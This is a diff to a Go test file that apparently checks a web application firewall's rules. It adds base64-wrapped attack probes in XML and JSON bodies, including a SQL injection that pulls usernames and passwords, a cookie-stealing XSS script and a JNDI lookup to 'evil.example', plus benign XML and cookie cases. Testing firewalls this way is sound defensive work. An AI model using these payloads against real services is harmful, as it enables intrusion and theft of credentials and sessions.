@@ -151,6 +151,8 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
 		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
+		{name: "base64 SQLi in an XML element's text", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><order><note>` + b64("1' UNION SELECT username, password FROM users--") + `</note></order>`},
+		{name: "base64 XSS in an XML attribute", method: "POST", path: "/api", contentType: "text/xml", body: `<order note="` + b64("<script>alert(document.cookie)</script>") + `"><id>7</id></order>`},
 		{name: "base64 SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		// NoSQL
 		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
@@ -271,6 +273,8 @@ func benignTable() []probe {
 			header: http.Header{"Cookie": {"session=eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAidXNlci03IiwgIm5hbWUiOiAiSmFuZSBPJ05laWwiLCAiZW1haWwiOiAiamFuZUBleGFtcGxlLmNvbSIsICJpc3MiOiAiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tLyIsICJhdWQiOiAiYXBpOi8vZGVmYXVsdCIsICJzY29wZSI6ICJvcGVuaWQgcHJvZmlsZSBlbWFpbCByZWFkOm9yZGVycyB3cml0ZTpvcmRlcnMiLCAicm9sZXMiOiBbImFkbWluIiwgImJpbGxpbmciXSwgImlhdCI6IDE3NjQ2MDAwMDAsICJleHAiOiAxNzY0NjAzNjAwfQ.KnQvZKx7TuM8EzSn2RTjOmricuTa9BpQTIQu7xZlDu4"}}},
 		{name: "sentences with punctuation and dashes", method: "POST", path: "/api/notes", contentType: js,
 			body: `{"title": "Q3-2026 roadmap: re-design, follow-ups", "body": "Well-known, long-standing issues; e.g. state-of-the-art end-to-end tests... (see ticket ABC-1234)."}`},
+		{name: "an XML document with base64 of plain text and of binary", method: "POST", path: "/api/files", contentType: "application/xml",
+			body: `<?xml version="1.0" encoding="UTF-8"?><file name="readme.txt" sha="9f86d081884c7d659a2feaa0c55ad015"><content>` + b64("Hello, world! This is a plain text file.\nLine two.") + `</content><thumb>iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==</thumb></file>`},
 		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
 	}
 }
